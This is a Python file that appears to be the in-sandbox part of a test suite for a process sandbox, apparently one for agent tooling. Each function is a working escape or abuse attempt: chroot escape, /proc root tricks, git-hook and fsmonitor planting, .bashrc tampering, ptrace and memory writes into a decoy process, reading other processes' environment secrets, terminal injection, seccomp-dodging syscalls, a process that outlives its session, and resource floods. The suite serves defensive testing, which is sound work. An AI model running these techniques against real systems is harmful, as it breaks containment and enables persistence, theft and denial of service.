# ruff: noqa
# mypy: ignore-errors
"""The attacks of the sandbox suite, run inside: ``python sandbox_attacks.py STAGE.json NAME ...`` prints what each claims as JSON.

It imports the standard library alone, so that any Python inside can run it. Every attack runs in a child of its own. What an attack
changes outside is judged outside, by names: it writes its own name, or into files that are called after it. It returns a claim only
for what cannot be seen from outside. A refusal raises, or returns nothing.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import fcntl
import json
import mmap
import os
import platform
import resource
import signal
import socket
import stat
import struct
import sys
import termios
import time

STAGE = {}
ATTACKS = {}
ROOT_ONLY = {
    "setuid_left_behind", "proc_sys_write", "proc_sys_new_proc", "sysrq", "sys_and_cgroup", "module_load", "mknod_block",
}  # fmt: skip
USER_ONLY = {"setuid_program"}
NEEDS_LIMITS = {
    "fork_flood", "memory_flood", "memory_flood_children", "disk_flood", "tmp_flood_many", "descriptor_flood",
}  # fmt: skip
libc = ctypes.CDLL(None, use_errno=True)
CLONE = {"user": 0x10000000, "mount": 0x00020000, "net": 0x40000000, "pid": 0x20000000}
X86 = platform.machine() == "x86_64"


def attack(function):
    ATTACKS[function.__name__] = function
    return function


def quiet(*errors):
    return contextlib.suppress(OSError, *errors)


def target(name=None):
    return f"{STAGE['outside']}/{name or STAGE['name']}.txt"


def project(*parts):
    return os.path.join(STAGE["projects"][0], *parts)


def put(path, text=None):
    with open(path, "a") as file:
        file.write(text or STAGE["name"])


def call(number, *args):
    result = libc.syscall(number, *args)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def number(x86, arm):
    return x86 if X86 else arm


def first_ok(*tries):
    """Run every form of an attack; return the claims of those that were not refused."""
    claims = []
    for form in tries:
        with quiet(ValueError, PermissionError):
            if said := form():
                claims.append(str(said))
    return "; ".join(claims) or None


# -- write


@attack
def write_direct():
    dotted = project("..", "outside", "write_direct.txt")
    first_ok(lambda: put(target()), lambda: put(dotted), lambda: put(f"{STAGE['outside']}/write_direct-new"))


@attack
def write_symlink_new():
    with quiet():
        os.symlink(STAGE["outside"], project("out"))
        put(project("out", "write_symlink_new.txt"))
    with quiet():
        os.symlink(target(), project("out.txt"))
        put(project("out.txt"))


@attack
def write_symlink_premade():
    first_ok(lambda: put(project("premade", "write_symlink_premade.txt")), lambda: put(project("premade.txt")))


@attack
def write_hardlink():
    os.link(target(), project("hard"))
    put(project("hard"))


@attack
def rename_in():
    os.rename(target(), project("moved-in"))


@attack
def rename_out():
    put(project("going"))
    first_ok(
        lambda: os.rename(project("going"), f"{STAGE['outside']}/rename_out-new"),
        lambda: os.rename(STAGE["projects"][1], STAGE["projects"][1] + "-rename_out"),
    )


@attack
def delete_outside():
    first_ok(lambda: os.unlink(target()), lambda: os.rmdir(f"{STAGE['outside']}/delete_outside.d"))


@attack
def truncate_append():
    def append():
        fd = os.open(target(), os.O_APPEND | os.O_WRONLY)
        os.write(fd, b"truncate_append")

    first_ok(lambda: os.truncate(target(), 1), append)


@attack
def mkdir_mkfifo():
    def bound():
        sock = socket.socket(socket.AF_UNIX)
        sock.bind(f"{STAGE['outside']}/mkdir_mkfifo-s")

    base = f"{STAGE['outside']}/mkdir_mkfifo"
    first_ok(lambda: os.mkdir(base + "-d"), lambda: os.mkfifo(base + "-f"), bound)


@attack
def proc_self_root():
    for root in ("/proc/self/root", "/proc/thread-self/root", "/proc/self/task/self/root"):
        with quiet():
            put(root + target())
    os.chdir(STAGE["projects"][0])
    put("/proc/self/cwd/../outside/proc_self_root.txt")


@attack
def proc_pid_root():
    for pid in (1, os.getppid(), STAGE["decoy"], STAGE["runner"]):
        for link in ("root", "cwd"):
            with quiet():
                put(f"/proc/{pid}/{link}{target()}")
        with quiet():
            for fd in os.listdir(f"/proc/{pid}/fd"):
                with quiet():
                    put(f"/proc/{pid}/fd/{fd}/proc_pid_root.txt")


@attack
def inherited_fd():
    for fd in range(3, 64):
        for name in ("inherited_fd.txt", "../outside/inherited_fd.txt"):
            with quiet():
                os.write(os.open(name, os.O_WRONLY | os.O_APPEND, dir_fd=fd), b"inherited_fd")


@attack
def reopen_opath():
    fd = os.open(target(), os.O_PATH)
    put(f"/proc/self/fd/{fd}")


@attack
def file_handle():
    handle = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0) + bytes(128))
    mount_id = ctypes.c_int()
    call(number(303, 264), -100, target().encode(), handle, ctypes.byref(mount_id), 0)
    fd = call(number(304, 265), os.open(STAGE["projects"][0], os.O_RDONLY), handle, os.O_WRONLY | os.O_APPEND)
    os.write(fd, b"file_handle")


@attack
def tmp_shared():
    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
        name = f"{folder}/skillkit-suite-{STAGE['id']}"
        first_ok(lambda: put(name), lambda: os.unlink(name), lambda: os.mkdir(name + "-new"))


@attack
def home_rc():
    put(os.path.join(STAGE["home"], ".bashrc"), "home_rc")


@attack
def memfd_program():
    if platform.libc_ver()[0] != "glibc":
        return
    fd = os.memfd_create("program")
    with open(os.path.realpath("/bin/sh"), "rb") as shell:
        os.write(fd, shell.read())
    if os.fork() == 0:
        os.execv(f"/proc/self/fd/{fd}", ["sh", "-c", f"echo memfd_program >> {target()}"])
    os.wait()


@attack
def chroot_escape():
    os.mkdir(project("jail"))
    here = os.open(".", os.O_RDONLY)
    os.chroot(project("jail"))
    os.fchdir(here)
    for _ in range(50):
        os.chdir("..")
    os.chroot(".")
    return "chroot"


# -- metadata


@attack
def chmod_outside():
    first_ok(
        lambda: os.chmod(target(), 0o777),
        lambda: os.chmod(os.path.basename(target()), 0o777, dir_fd=os.open(STAGE["outside"], os.O_RDONLY)),
        lambda: os.fchmod(os.open(target(), os.O_RDONLY), 0o777),
    )


@attack
def chown_outside():
    os.chown(target(), 12345 if os.getuid() == 0 else -1, os.getgid())
    return "chown" if os.getuid() else None


@attack
def utime_outside():
    first_ok(lambda: os.utime(target(), (1, 1)), lambda: os.utime(os.open(target(), os.O_RDONLY), (1, 1)))


@attack
def xattr_outside():
    os.setxattr(target(), "user.suite", b"1")
    return "xattr"


@attack
def setuid_left_behind():
    path = project("rooted")

    def made():
        os.close(os.open(project("rooted2"), os.O_CREAT | os.O_WRONLY, 0o4755))
        return oct(os.stat(project("rooted2")).st_mode) if os.stat(project("rooted2")).st_mode & stat.S_ISUID else None

    def openat2():
        how = struct.pack("=QQQ", os.O_CREAT | os.O_WRONLY, 0o4755, 0)
        call(437, -100, project("rooted3").encode(), how, len(how))

    put(path)
    first_ok(
        lambda: os.chmod(path, 0o4755),
        lambda: os.fchmod(os.open(path, os.O_RDONLY), 0o6755),
        lambda: os.chmod("rooted", 0o4755, dir_fd=os.open(STAGE["projects"][0], os.O_RDONLY)),
        lambda: call(452, -100, path.encode(), 0o4755, 0),
        lambda: os.mknod(project("rooted4"), 0o104755),
        made,
        openat2,
    )


# -- read: what is read goes to the runner, which knows the secrets


@attack
def read_hidden():
    found = []
    for path in (*STAGE["hidden"], project("to-hidden")):
        for form in (
            path,
            "/proc/self/root" + path,
            f"{os.path.dirname(path)}/../{os.path.relpath(path, os.path.dirname(path) + '/..')}",
        ):
            with quiet():
                found.append(open(form + "/secret.txt").read())
            with quiet():
                found += os.listdir(form)
    return " ".join(found)


@attack
def read_hidden_moved():
    parent = os.path.dirname(STAGE["hidden"][1])
    while os.path.dirname(parent) != STAGE["projects"][0]:
        parent = os.path.dirname(parent)
    os.rename(parent, parent + "-moved")
    return open(STAGE["hidden"][1].replace(parent, parent + "-moved") + "/secret.txt").read()


@attack
def read_hidden_umount():
    for path in STAGE["hidden"]:
        libc.umount2(path.encode(), 2)
    return read_hidden()


@attack
def read_secret_file():
    return open(STAGE["hidden"][2] + "/secret.txt").read()


@attack
def read_own_env():
    return os.environ.get("SUITE_SECRET")


@attack
def read_other_env():
    found = ""
    for pid in [p for p in os.listdir("/proc") if p.isdigit()] + [STAGE["decoy"], STAGE["runner"]]:
        with quiet():
            found += open(f"/proc/{pid}/environ").read()
    return found


@attack
def read_descriptors():
    found = b""
    for fd in [*range(3, 64), "/proc/1/fd", f"/proc/{os.getppid()}/fd"]:
        with quiet():
            if isinstance(fd, int):
                os.lseek(fd, 0, 0)
                found += os.read(fd, 1000)
            else:
                for one in os.listdir(fd):
                    with quiet():
                        if os.path.isfile(f"{fd}/{one}"):
                            found += open(f"{fd}/{one}", "rb").read(1000)
    return found.decode(errors="replace")


# -- git


def hook(folder):
    put(f"{folder}/post-checkout", "#!/bin/sh\n")


@attack
def git_hook():
    first_ok(lambda: hook(project(".git/hooks")), lambda: put(project(".git/hooks/pre-commit.sample")))


@attack
def git_config():
    def replaced():
        put(project("config.new"), "[core]\n\tfsmonitor = touch pwned\n")
        os.rename(project("config.new"), project(".git/config"))

    first_ok(
        lambda: put(project(".git/config"), "[core]\n\thooksPath = x\n"),
        replaced,
        lambda: os.unlink(project(".git/config")),
    )


@attack
def git_rename_parent():
    os.rename(project(".git"), project("old-git"))
    os.makedirs(project(".git/hooks"))
    hook(project(".git/hooks"))


@attack
def git_hooks_dir_swapped():
    hooks = project(".git/hooks")

    def link():
        os.mkdir(project("myhooks"))
        os.symlink(project("myhooks"), project("newlink"))
        os.rename(project("newlink"), hooks)

    first_ok(lambda: os.rename(hooks, project(".git/hooks-old")), lambda: os.rmdir(hooks), link)


@attack
def git_missing_created():
    git = STAGE["projects"][1] + "/.git"

    def moved():
        os.makedirs(STAGE["projects"][1] + "/made/hooks")
        os.rename(STAGE["projects"][1] + "/made", git)

    first_ok(lambda: os.makedirs(git + "/hooks"), moved, lambda: hook(git), lambda: os.rename(git, git + "-old"))


@attack
def git_file_pointer():
    git = STAGE["projects"][2] + "/.git"
    os.makedirs(STAGE["projects"][2] + "/prepared")

    def pointer():
        os.rmdir(git)
        put(git, "gitdir: prepared\n")

    def renamed():
        put(git + ".new", "gitdir: prepared\n")
        os.rename(git + ".new", git)

    first_ok(pointer, renamed, lambda: os.symlink("prepared", git))


@attack
def protected_file_replaced():
    path = project(".mcp.json")

    def replaced():
        put(path + ".new")
        os.rename(path + ".new", path)

    first_ok(lambda: put(path), replaced, lambda: os.unlink(path), lambda: os.rename(path, path + "-old"))


@attack
def protected_missing_created():
    path = project(".hostsettings")

    def moved():
        os.mkdir(path + "-made")
        put(path + "-made/x")
        os.rename(path + "-made", path)

    first_ok(
        lambda: put(path + "/x"),
        lambda: os.makedirs(path + "/sub"),
        moved,
        lambda: os.symlink("x", path),
        lambda: os.rmdir(path),
    )


# -- kernel


def opens(*paths):
    """Return the first of the paths that can be opened for writing."""
    for path in paths:
        with quiet():
            os.close(os.open(path, os.O_WRONLY))
            return path
    return None


@attack
def proc_sys_write():
    return opens(
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/kernel/hostname",
        "/proc/sys/vm/drop_caches",
        "/proc/sys/kernel/modprobe",
    )


@attack
def proc_sys_new_proc():
    call(number(272, 97), CLONE["user"] | CLONE["pid"] | CLONE["mount"])
    return "namespaces"


@attack
def sysrq():
    return opens("/proc/sysrq-trigger")


@attack
def sys_and_cgroup():
    import glob

    return opens(
        *glob.glob("/sys/fs/cgroup/**/release_agent", recursive=True)[:20],
        *glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True)[:20],
        "/sys/kernel/uevent_helper", "/sys/power/state", "/sys/kernel/mm/transparent_hugepage/enabled",
    )  # fmt: skip


# -- namespace


@attack
def mount_tmpfs():
    def mounted():
        if libc.mount(b"none", project("m").encode(), b"tmpfs", 0, None) == 0:
            return "mount"

    os.makedirs(project("m"), exist_ok=True)
    return first_ok(
        mounted,
        lambda: call(430, b"tmpfs", 0) and "fsopen",
        lambda: call(428, -100, project("m").encode(), 1) and "open_tree",
    )


@attack
def remount_rw():
    os.makedirs(project("b"), exist_ok=True)
    if libc.mount(STAGE["outside"].encode(), project("b").encode(), None, 4096, None) == 0:
        return "bind"
    if libc.mount(None, b"/", None, 32 | 4096, None) == 0:
        return "remount"


def unshare(*kinds):
    def form(flags):
        def forked():
            if pid := os.fork():
                return "unshare" if os.waitpid(pid, 0)[1] == 0 else None
            os._exit(0 if libc.unshare(flags) == 0 else 1)

        return forked

    return first_ok(*(form(sum(CLONE[k] for k in kind.split("+"))) for kind in kinds))


@attack
def unshare_user():
    return unshare("user")


@attack
def unshare_mount():
    return unshare("mount", "user+mount")


@attack
def unshare_net():
    return unshare("net", "user+net")


@attack
def clone_newuser():
    def clone():
        pid = call(number(56, 220), CLONE["user"] | signal.SIGCHLD, 0, 0, 0, 0)
        if pid == 0:
            os._exit(0)
        return "clone"

    def clone3():
        args = ctypes.create_string_buffer(struct.pack("=8Q", CLONE["user"], 0, 0, 0, signal.SIGCHLD, 0, 0, 0))
        pid = call(435, args, 64)
        if pid == 0:
            os._exit(0)
        return "clone3"

    return first_ok(clone, clone3)


@attack
def setns_host():
    claims = []
    for pid in (STAGE["decoy"], STAGE["runner"], 1):
        for name in ("user", "mnt", "net", "pid"):
            with quiet():
                fd = os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY)
                if libc.setns(fd, 0) == 0:
                    claims.append(f"{pid}/{name}")
    return " ".join(claims)


# -- process


@attack
def ptrace_host():
    for request in (16, 0x4206):
        if libc.ptrace(request, STAGE["decoy"], 0, 0) == 0:
            return "ptrace"


@attack
def process_vm():
    def poke():
        local = ctypes.create_string_buffer(b"process_vm")
        one = struct.pack("=QQ", ctypes.addressof(local), 10)
        two = struct.pack("=QQ", STAGE["address"], 10)
        call(number(311, 271), STAGE["decoy"], one, 1, two, 1, 0)

    def through_file():
        with open(f"/proc/{STAGE['decoy']}/mem", "r+b", buffering=0) as memory:
            memory.seek(STAGE["address"])
            memory.write(b"process_vm")

    first_ok(poke, through_file)


@attack
def kill_host():
    def by_fd():
        signal.pidfd_send_signal(os.pidfd_open(STAGE["decoy"]), signal.SIGUSR1)

    first_ok(
        lambda: os.kill(STAGE["decoy"], signal.SIGUSR1),
        lambda: call(number(234, 131), STAGE["decoy"], STAGE["decoy"], signal.SIGUSR1),
        by_fd,
    )


@attack
def pidfd_getfd():
    return call(438, os.pidfd_open(STAGE["decoy"]), 0, 0) and "pidfd_getfd"


@attack
def prlimit_host():
    resource.prlimit(STAGE["decoy"], resource.RLIMIT_CORE, resource.prlimit(STAGE["decoy"], resource.RLIMIT_CORE))
    return "prlimit"


# -- network: daemons log what they get


def name():
    return STAGE["name"].encode()


@attack
def tcp_connect():
    for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
        with quiet():
            sock = socket.socket(family)
            sock.settimeout(1)
            sock.connect((address, STAGE["tcp"]))
            sock.sendall(name())


@attack
def udp_send():
    for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
        with quiet():
            socket.socket(family, socket.SOCK_DGRAM).sendto(name(), (address, STAGE["udp"]))


@attack
def dns_query():
    question = struct.pack(">6H", 1, 256, 1, 0, 0, 0) + bytes([len(name())]) + name() + b"\0\0\1\0\1"
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question, ("127.0.0.1", STAGE["udp"]))


@attack
def unix_connect():
    for path in STAGE["sockets"]:
        with quiet():
            sock = socket.socket(socket.AF_UNIX)
            sock.connect(path)
            sock.sendall(name())


@attack
def unix_in_project():
    sock = socket.socket(socket.AF_UNIX)
    sock.connect(project("daemon.sock"))
    sock.sendall(name())


@attack
def unix_dgram():
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    first_ok(lambda: sock.sendto(name(), STAGE["dgram"]), lambda: sock.sendmsg([name()], [], 0, STAGE["dgram"]))


@attack
def unix_dgram_by_socketpair():
    for kind in (
        socket.SOCK_DGRAM,
        socket.SOCK_RAW,
        socket.SOCK_SEQPACKET,
        socket.SOCK_STREAM,
        socket.SOCK_DGRAM | socket.SOCK_NONBLOCK,
    ):
        with quiet():
            sock, _ = socket.socketpair(socket.AF_UNIX, kind)
            first_ok(lambda: sock.sendto(name(), STAGE["dgram"]), lambda: sock.sendmsg([name()], [], 0, STAGE["dgram"]))
    pair = (ctypes.c_int * 2)()
    call(number(53, 199), ctypes.c_ulong(1), ctypes.c_ulong((1 << 32) | 2), 0, pair)
    socket.socket(fileno=pair[0]).sendto(name(), STAGE["dgram"])


@attack
def abstract_connect():
    sock = socket.socket(socket.AF_UNIX)
    sock.connect("\0" + STAGE["abstract"])
    sock.sendall(name())


@attack
def fd_from_daemon():
    for path in STAGE["sockets"]:
        with quiet():
            sock = socket.socket(socket.AF_UNIX)
            sock.settimeout(1)
            sock.connect(path)
            sock.sendall(b"folder please, for fd_from_daemon")
            _, fds, _, _ = socket.recv_fds(sock, 100, 1)
            os.write(os.open("fd_from_daemon.txt", os.O_WRONLY | os.O_APPEND, dir_fd=fds[0]), b"fd_from_daemon")


@attack
def listen_for_host():
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(("0.0.0.0", STAGE["listen"]))
    sock.listen()
    sock.settimeout(1)
    sock.accept()  # the runner knocks all the time
    return "accepted"


@attack
def netlink_route():
    sock = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    sock.send(struct.pack("=LHHLL", 20, 18, 0x301, 1, 0) + b"\0" * 4)
    return f"netlink: {len(sock.recv(65536))} bytes"


def makes(*families):
    claims = []
    for family, kind, protocol in families:
        with quiet():
            socket.socket(family, kind, protocol).close()
            claims.append(f"{family}/{kind}")
    return " ".join(claims)


@attack
def raw_socket():
    return makes((2, 3, 1), (2, 3, 255), (10, 3, 58), (17, 3, 0x300), (17, 2, 0x300), (2, 10, 0x300))


@attack
def odd_families():
    hidden_bits = libc.syscall(number(41, 198), ctypes.c_ulong((1 << 32) | 16), 3, 0)
    odd = [f for f in range(3, 46) if f not in (10, 16, 17)]
    return makes(*((f, kind, 0) for f in odd for kind in (1, 2, 3, 5))) or ("hidden bits" if hidden_bits >= 0 else None)


# -- system calls


@attack
def io_uring():
    call(425, 4, ctypes.create_string_buffer(120))
    return "io_uring_setup"


@attack
def bpf():
    call(number(321, 280), 0, struct.pack("=IIIII", 2, 4, 4, 1, 0) + bytes(100), 120)
    return "bpf"


@attack
def keyctl():
    return first_ok(
        lambda: call(number(248, 217), b"user", b"suite", b"x", 1, -3) and "add_key",
        lambda: call(number(250, 219), 0, -3, 1) and "keyctl",
    )


@attack
def userfaultfd():
    return first_ok(lambda: call(number(323, 282), 0) and "all", lambda: call(number(323, 282), 1) and "user mode")


@attack
def perf_event():
    attributes = (
        struct.pack("=IIQQ", 1, 120, 9, 0) + struct.pack("=Q", 0) * 2 + struct.pack("=Q", 1 << 5 | 1 << 6) + bytes(72)
    )
    call(number(298, 241), attributes, 0, -1, -1, 0)
    return "perf_event_open"


@attack
def module_load():
    for call_number, args in ((number(175, 105), (b"rubbish", 7, b"")), (number(313, 273), (0, b"", 0))):
        with quiet():
            call(call_number, *args)
            return "loaded"
        if ctypes.get_errno() != errno.EPERM:
            return f"refused late: {os.strerror(ctypes.get_errno())}"


@attack
def tiocsti():
    claims = []
    for fd in (0, 1, 2):
        for command in (0x5412, (1 << 32) | 0x5412, 0x541C):
            if libc.syscall(number(16, 29), fd, ctypes.c_ulong(command), b"x") >= 0:
                claims.append(hex(command))
    with quiet():
        fd = os.open("/dev/tty", os.O_RDWR)
        fcntl.ioctl(fd, termios.TIOCSTI, b"x")
        claims.append("/dev/tty")
    return " ".join(claims)


@attack
def tty_write():
    put(STAGE["tty"], "tty_write")


@attack
def x32_call():
    if X86 and libc.syscall(0x40000000 + 272, CLONE["user"]) == 0:
        return "x32 unshare"


@attack
def int80_call():
    if not X86:
        return None
    code = (
        bytes([0x53, 0xB8])
        + struct.pack("<I", 310)
        + bytes([0xBB])
        + struct.pack("<I", CLONE["user"])
        + b"\xcd\x80\x5b\xc3"
    )
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(code)
    function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))
    return "unshare" if function() == 0 else None


@attack
def setuid_program():
    for line in open("/proc/self/status"):
        if line.startswith("NoNewPrivs:"):
            return None if line.split()[1] == "1" else "no_new_privs is off"


# -- device


@attack
def block_device():
    claims = []
    for device in ("vda", "sda", "nvme0n1", "xvda", "loop0", "dm-0", "vda1", "sda1"):
        with quiet():
            os.close(os.open(f"/dev/{device}", os.O_RDONLY))
            claims.append(device)
    return " ".join(claims)


@attack
def mknod_block():
    claims = []
    for kind, major, minor in (
        (stat.S_IFBLK, 254, 0),
        (stat.S_IFBLK, 8, 0),
        (stat.S_IFCHR, 1, 1),
        (stat.S_IFCHR, 1, 3),
    ):
        with quiet():
            path = project(f"node{major}-{minor}")
            os.mknod(path, 0o600 | kind, os.makedev(major, minor))
            os.close(os.open(path, os.O_RDONLY))
            claims.append(path)
    return " ".join(claims)


@attack
def special_devices():
    claims = []
    names = (
        "mem",
        "kmsg",
        "port",
        "kvm",
        "fuse",
        "net/tun",
        "loop-control",
        "uinput",
        "userfaultfd",
        "vhost-net",
        "vsock",
        "mapper/control",
    )
    for device in names:
        for mode in (os.O_RDONLY, os.O_WRONLY):
            with quiet():
                os.close(os.open(f"/dev/{device}", mode | os.O_NONBLOCK))
                claims.append(device)
    return " ".join(claims)


# -- lifetime: the runner watches the file after the end


@attack
def survivor():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for fd in (0, 1, 2):
                os.close(fd)
            while True:
                with quiet():
                    put(project("survivor.log"), ".")
                time.sleep(0.02)
        os._exit(0)
    os.wait()


# -- resource: with limits


@attack
def fork_flood():
    most, pids = STAGE["limits"]["processes"] * 3, []
    try:
        for _ in range(most):
            if (pid := os.fork()) == 0:
                signal.pause()
            pids.append(pid)
        return f"{most} processes"
    finally:
        for pid in pids:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)


def touched(megabytes):
    memory = mmap.mmap(-1, megabytes << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    for at in range(0, megabytes << 20, 4096):
        memory[at] = 1
    return memory


@attack
def memory_flood():
    touched(STAGE["limits"]["memory_mb"] * 2)
    return "all of it"


@attack
def memory_flood_children():
    read, write = os.pipe()
    pids = []
    for _ in range(5):
        if (pid := os.fork()) == 0:
            held = touched(STAGE["limits"]["memory_mb"] // 2)
            os.write(write, b"x")
            signal.pause()
            del held
        pids.append(pid)
    os.close(write)
    got, deadline = b"", time.monotonic() + 8
    os.set_blocking(read, False)
    while len(got) < 5 and time.monotonic() < deadline:
        with quiet(BlockingIOError):
            if not (piece := os.read(read, 10)):
                break
            got += piece
        if any(os.waitpid(pid, os.WNOHANG) != (0, 0) for pid in pids):
            break
        time.sleep(0.01)
    for pid in pids:
        with quiet(ProcessLookupError):
            os.kill(pid, signal.SIGKILL)
    return "all of it" if len(got) == 5 else None


def filled(path, megabytes):
    with open(path, "wb", buffering=0) as file:
        for _ in range(megabytes):
            file.write(b"x" * (1 << 20))
    return os.path.getsize(path)


@attack
def disk_flood():
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    size = STAGE["limits"]["disk_mb"] * 2
    claims = []
    for path in (project("flood"), "/tmp/flood"):
        with quiet():
            filled(path, size)
            claims.append(path)
        with quiet():
            os.unlink(path)
    return " ".join(claims)


@attack
def tmp_flood_many():
    size = STAGE["limits"]["disk_mb"]
    for n in range(5):
        filled(f"/tmp/many{n}", size // 2)
    return "all of it"


@attack
def descriptor_flood():
    fds = [os.open("/dev/null", os.O_RDONLY) for _ in range(STAGE["limits"]["open_files"] * 4)]
    return f"{len(fds)} files"


def run(name):
    """Run one attack in a child, and return what it claims."""
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:
        STAGE["name"] = name
        claim = ""
        with contextlib.suppress(BaseException):
            signal.alarm(20)
            claim = ATTACKS[name]() or ""
        with contextlib.suppress(BaseException):
            os.write(write, claim.encode(errors="replace")[:60000])
        os._exit(0)
    os.close(write)
    claim = b""
    with open(read, "rb") as pipe:
        if name != "survivor":
            claim = pipe.read()
    os.waitpid(pid, 0)
    return claim.decode(errors="replace")


def main():
    with open(sys.argv[1]) as file:
        STAGE.update(json.load(file))
    resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
    found = {name: run(name) for name in sys.argv[2:]}
    print("\n" + json.dumps(found), flush=True)


if __name__ == "__main__":
    main()
